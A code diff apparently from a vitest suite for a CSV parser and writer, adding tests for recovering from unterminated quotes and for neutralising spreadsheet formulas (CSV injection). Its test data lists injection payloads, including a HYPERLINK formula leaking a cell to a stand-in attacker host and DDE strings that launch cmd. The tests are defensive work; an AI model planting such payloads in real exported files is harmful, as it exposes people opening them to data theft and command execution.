@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { detectSeparator, parseCsv, writeCsv, writeCsvField } from '@/src/lab/csv';
+import { detectSeparator, neutralise, parseCsv, unneutralise, writeCsv, writeCsvField } from '@/src/lab/csv';
 
 describe('parseCsv', () => {
   it.each([
@@ -28,10 +28,28 @@ describe('parseCsv', () => {
     expect(r.lines).toEqual([1, 2, 4]);
   });
 
-  it('reports an unterminated quote with its line and keeps the rest of the text', () => {
+  it('reports an unterminated quote with its line, and reads on from the next line', () => {
     const r = parseCsv('a,b\n1,"never closed\nmore');
     expect(r.errors).toEqual([{ line: 2, code: 'unterminated-quote' }]);
-    expect(r.rows[1]).toEqual(['1', 'never closed\nmore']);
+    expect(r.rows).toEqual([['a', 'b'], ['more']]);
+    expect(r.lines).toEqual([1, 3]);
+  });
+
+  it.each([
+    ['closed by a later record\'s quote', 'text,label\n"ok one",human\n"bad quote,machine\n"ok three",human\nplain four,machine\n'],
+    ['never closed', 'text,label\n"ok one",human\n"bad quote,machine\nok three,human\nplain four,machine\n'],
+    ['CRLF line ends', 'text,label\r\n"ok one",human\r\n"bad quote,machine\r\n"ok three",human\r\nplain four,machine\r\n'],
+  ])('one unbalanced quote (%s) costs its own row only', (_, input) => {
+    const r = parseCsv(input);
+    expect(r.errors).toEqual([{ line: 3, code: 'unterminated-quote' }]);
+    expect(r.rows).toEqual([['text', 'label'], ['ok one', 'human'], ['ok three', 'human'], ['plain four', 'machine']]);
+    expect(r.lines).toEqual([1, 2, 4, 5]);
+  });
+
+  it('an unbalanced quote in a later field, too', () => {
+    const r = parseCsv('a,b\n1,"x\n2,y\n');
+    expect(r.errors).toEqual([{ line: 2, code: 'unterminated-quote' }]);
+    expect(r.rows).toEqual([['a', 'b'], ['2', 'y']]);
   });
 
   it('reports text after a closing quote and keeps it', () => {
@@ -52,6 +70,33 @@ describe('parseCsv', () => {
 
   it('reads semicolon files (French spreadsheets)', () => {
     expect(parseCsv('texte;étiquette\n"Bonjour; à tous";humain').rows[1]).toEqual(['Bonjour; à tous', 'humain']);
+  });
+});
+
+// CWE-1236 / OWASP "CSV injection": what a spreadsheet would run as a formula.
+const FORMULAS = [
+  '=HYPERLINK("http://attacker.example/?leak="&A1,"Click me")',
+  '+cmd|\' /C calc\'!A0',
+  '-2+3+cmd|\' /C calc\'!A0',
+  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  '\t=1+1',
+  '\r=1+1',
+  "'=already quoted once",
+  "''+twice",
+];
+
+describe('spreadsheet-safe fields', () => {
+  it.each(FORMULAS)('%j is written with a leading quote, quoted, never starting with a formula character', (value) => {
+    const out = writeCsvField(value);
+    expect(out.startsWith(`"'`)).toBe(true);
+    const back = parseCsv(`h\n${out}`).rows[1]?.[0];
+    expect(back).not.toMatch(/^[=+\-@\t\r]/);
+    expect(unneutralise(back ?? '')).toBe(value);
+  });
+
+  it.each(['plain text', "it's fine", 'a = b', 'e-mail', '', "'", "'quoted", '2-3'])('%j is left as it is', (value) => {
+    expect(neutralise(value)).toBe(value);
+    expect(unneutralise(value)).toBe(value);
   });
 });
 
